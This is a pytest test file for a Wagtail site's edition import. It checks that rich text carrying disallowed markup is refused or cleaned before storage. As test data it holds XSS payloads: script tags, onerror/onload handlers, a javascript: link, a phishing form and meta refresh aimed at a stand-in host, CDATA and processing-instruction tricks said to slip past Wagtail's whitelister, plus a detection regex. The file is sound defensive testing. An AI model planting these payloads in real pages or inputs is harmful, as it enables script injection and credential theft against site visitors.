"""Rich text that enters by import is cleaned by Wagtail's rules for its field before it is
stored, or refused with its place: nothing a visitor, the API or the page editor receives
carries markup the editor does not allow, and every imported page opens in the editor."""

import json
import re
import uuid

import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from framework_pages.exchange.cleaning import clean_html
from framework_pages.exchange.document import dumps, export_edition
from framework_pages.exchange.importing import import_edition
from framework_pages.exchange.problems import DocumentError
from framework_pages.models import FrameworkPage, HoofdtaakPage, TaakgebiedPage

from ..framework_pages.factories import body_block, fixture_document, import_state, section_doc

pytestmark = pytest.mark.django_db

# Markup no field of the portal allows: each must be refused, never stored.
HOSTILE = (
    '<meta http-equiv="refresh" content="0;url=https://kwaad.example/">'
    "<script>document.title='gekaapt'</script>"
    '<form action="https://kwaad.example/"><input name="wachtwoord"><button>Inloggen</button></form>'
    '<iframe src="https://kwaad.example/"></iframe><style>body{display:none}</style>'
    '<img src="x" onerror="alert(3)"><svg onload="alert(4)"></svg>'
)
# Wagtail's whitelister passes these through verbatim; a browser ends the "comment" at the
# first ">" and runs the script after it.
SMUGGLED = ["<![CDATA[x><script>alert('cdata')</script>]]>", "<?x><script>alert('pi')</script>?>"]
# Markup the editor drops without asking (attributes) or repairs (unclosed tags): imported
# cleaned. Unclosed tags made the page editor answer 500.
REPAIRABLE = (
    '<p onclick="alert(1)" style="color:red">Tekst <b>vet</p><p>regel<br>regel</p><p><i>cursief</p>'
)
# For the fields that allow lists and links (not the text after the kerntaken).
LIST_AND_LINK = (
    "<ul><li>een<li>twee</ul>"
    '<p><a href="javascript:alert(2)">klik</a> <a href="https://example.org/">goed</a></p>'
)
FORBIDDEN = re.compile(
    r"<\s*(script|meta|form|input|button|iframe|style|img|svg)\b|<!\[CDATA|<\?"
    r"|onclick|onerror|onload|javascript:|kwaad\.example",
    re.IGNORECASE,
)

REPAIRED = re.compile(r"onclick|style=|javascript:|<b>vet</p>|<br>", re.IGNORECASE)


def with_rich_text(intro, outro=None):
    """The fixture document with ``intro`` in the edition's and a hoofdtaak's introduction
    and an intro block of 2.3, and ``outro`` (default: ``intro``) after 2.3's kerntaken."""
    document = fixture_document()
    document["edition"]["intro"] = intro
    hoofdtaak = next(s for s in document["sections"] if s["type"] == "hoofdtaak")
    hoofdtaak["intro"] = intro
    section = section_doc(document, "2.3")
    body_block(section, "intro")["html"] = intro
    body_block(section, "kerntaken")["outro"] = intro if outro is None else outro
    return document


PLACES = [
    "Editie ‘Beroepsprofiel coördinator vrijwilligerswerk 2025’ › Inleiding",
    "Hoofdtaak 2 ‘Vrijwilligers begeleiden’ › Inleiding",
    "Taakgebied 2.3 ‘Matchen’ › Inhoud › Tekst (blok 1)",
    "Taakgebied 2.3 ‘Matchen’ › Inhoud › Kerntaken (blok 2) › Tekst na de lijst",
]


@pytest.mark.parametrize("markup", [HOSTILE, *SMUGGLED])
def test_markup_the_editor_does_not_allow_is_refused_at_every_place(admin, edition, markup):
    before = import_state()
    with pytest.raises(DocumentError) as refused:
        import_edition(with_rich_text(markup), publish=True, user=admin)
    assert [p.where for p in refused.value.problems] == PLACES
    for problem in refused.value.problems:
        assert "opmaak die de editor hier niet toestaat" in problem.message
    assert import_state() == before


def test_the_refusal_names_the_markup_and_its_place_in_the_import_screen(client, edition):
    user = Group.objects.get(name="Hoofdredacteur").user_set.create(username="hoofd-schoon")
    client.force_login(user)
    upload = SimpleUploadedFile(
        "editie.json", dumps(with_rich_text(HOSTILE)).encode(), content_type="application/json"
    )
    response = client.post(
        reverse("edities-importeren:index"), {"file": upload, "action": "voorbeeld"}
    )
    html = response.content.decode()
    assert response.status_code == 400
    assert "Het document is niet geïmporteerd; er is niets gewijzigd." in html
    assert "&lt;meta&gt;, &lt;script&gt;, &lt;form&gt;" in html
    assert "Taakgebied 2.3 ‘Matchen’ › Inhoud › Tekst (blok 1)" in html
    assert not FORBIDDEN.search(html.split('id="problems-heading"', 1)[1])


def test_nesting_the_editor_cannot_open_is_refused(admin, edition):
    with pytest.raises(DocumentError) as refused:
        import_edition(with_rich_text("<b><p>vet om een alinea</p></b>"), user=admin)
    assert [p.where for p in refused.value.problems] == PLACES
    assert "De editor kan deze tekst niet openen" in refused.value.problems[0].message


@pytest.fixture
def imported(admin, edition):
    document = with_rich_text(REPAIRABLE + LIST_AND_LINK, outro=REPAIRABLE)
    return import_edition(document, publish=True, user=admin).edition


def test_every_imported_page_opens_in_the_page_editor(client, admin, imported):
    client.force_login(admin)
    pages = list(imported.get_descendants(inclusive=True).specific())
    assert len(pages) > 10
    for page in pages:
        response = client.get(reverse("wagtailadmin_pages:edit", args=[page.pk]))
        assert response.status_code == 200, page.title


def test_a_new_edition_is_cleaned_too_and_opens_in_the_editor(client, admin, edition):
    document = with_rich_text(REPAIRABLE + LIST_AND_LINK, outro=REPAIRABLE)
    document["edition"].update(
        uid=str(uuid.uuid4()), label="2031", slug="editie-2031", title="Beroepsprofiel 2031"
    )
    result = import_edition(document, user=admin)
    assert result.created
    client.force_login(admin)
    for page in result.edition.get_descendants(inclusive=True).specific():
        response = client.get(reverse("wagtailadmin_pages:edit", args=[page.pk]))
        assert response.status_code == 200, page.title
        assert not REPAIRED.search(json.dumps(page.get_latest_revision().content)), page.title


def test_what_the_editor_would_drop_is_cleaned_before_it_is_stored(imported):
    hoofdtaak = HoofdtaakPage.objects.descendant_of(imported).get(number="2")
    section = TaakgebiedPage.objects.descendant_of(imported).get(number="2.3")
    stored = [imported.intro, hoofdtaak.intro, json.dumps(list(section.body.raw_data))]
    for html in stored:
        assert not FORBIDDEN.search(html)
    assert imported.intro == (
        "<p>Tekst <b>vet</b></p><p>regel<br/>regel</p><p><i>cursief</i></p>"
        "<ul><li>een<li>twee</li></li></ul>"
        '<p><a>klik</a> <a href="https://example.org/">goed</a></p>'
    )


def test_public_pages_and_the_api_carry_no_hostile_markup(client, imported):
    shown = []
    for page in imported.get_descendants(inclusive=True).live().specific():
        response = client.get(page.url)
        assert response.status_code == 200
        main = response.content.decode().split("<main", 1)[1].split("</main>", 1)[0]
        # The page's own search form aside, nothing of what the editor drops.
        assert not REPAIRED.search(main), page.url
        if "Tekst <b>vet</b>" in main:
            shown.append(page.title)
    assert {"Beroepsprofiel coördinator vrijwilligerswerk 2025", "Matchen"} <= set(shown)
    for url in ("/api/edities/2025/", "/api/edities/2025/case/"):
        response = client.get(url)
        assert response.status_code == 200
        assert not REPAIRED.search(response.content.decode()), url


def test_an_exported_edition_with_the_editors_block_keys_imports_unchanged(admin, edition):
    # What Draftail stores: every block with its key (comments on the text are anchored to it).
    edition.intro = '<p data-block-key="a1b2c">Inleiding met <b>vet</b> en it\'s “quotes”.</p>'
    edition.save_revision(user=admin).publish(user=admin)
    document = export_edition(FrameworkPage.objects.get(pk=edition.pk))
    result = import_edition(document, user=admin, dry_run=True)
    assert result.changes == []


@pytest.mark.parametrize(
    ("html", "features", "expected"),
    [
        ('<p data-block-key="k1">a</p>', ["bold"], '<p data-block-key="k1">a</p>'),
        ('<p data-block-key="&quot;><script>">a</p>', ["bold"], "<p>a</p>"),
        ("<h2>kop</h2>", ["bold", "italic"], "kop"),
        ("<h2>kop</h2>", None, "<h2>kop</h2>"),
    ],
)
def test_clean_html_follows_the_fields_features(html, features, expected):
    assert clean_html(html, features).html == expected
